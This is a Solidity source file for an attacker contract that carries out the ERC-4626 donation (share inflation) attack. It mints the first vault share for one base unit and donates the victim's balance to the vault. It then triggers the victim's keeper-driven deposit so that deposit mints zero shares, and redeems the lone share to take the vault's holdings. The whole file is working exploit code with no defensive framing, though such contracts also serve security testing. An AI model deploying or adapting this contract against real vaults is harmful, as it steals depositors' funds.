// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IInflationAsset {
    function balanceOf(address account) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

interface IInflationVault {
    function asset() external view returns (address);
    function totalSupply() external view returns (uint256);
    function deposit(uint256 assets, address receiver) external returns (uint256 shares);
    function redeem(uint256 shares, address receiver, address owner) external returns (uint256 assets);
}

interface IKeeperTarget {
    function allocate() external returns (uint256 shares);
}

/// @title InflationAttacker
/// @notice Attacker contract for the ERC-4626 donation (share inflation) attack, all in one
///         transaction: mint the only share of an empty vault with 1 base unit, donate as much as
///         the victim is about to deposit straight to the vault, trigger the victim's
///         permissionless deposit (which now mints 0 shares), and redeem the one share for
///         everything the vault holds.
contract InflationAttacker {
    address public immutable owner;

    constructor() {
        owner = msg.sender;
    }

    /// @notice Run the attack on `vault` against the allocator `keeper`, funded by the owner.
    function attack(IInflationVault vault, IKeeperTarget keeper, address victim) external {
        require(msg.sender == owner, "InflationAttacker: not owner");
        require(vault.totalSupply() == 0, "InflationAttacker: vault not empty");
        IInflationAsset token = IInflationAsset(vault.asset());
        uint256 donation = token.balanceOf(victim);
        require(token.transferFrom(owner, address(this), donation + 1), "InflationAttacker: funding");

        require(token.approve(address(vault), 1), "InflationAttacker: approve");
        require(vault.deposit(1, address(this)) == 1, "InflationAttacker: first share");
        require(token.transfer(address(vault), donation), "InflationAttacker: donation");
        require(keeper.allocate() == 0, "InflationAttacker: victim got shares");
        vault.redeem(1, address(this), address(this));

        require(token.transfer(owner, token.balanceOf(address(this))), "InflationAttacker: payout");
    }
}
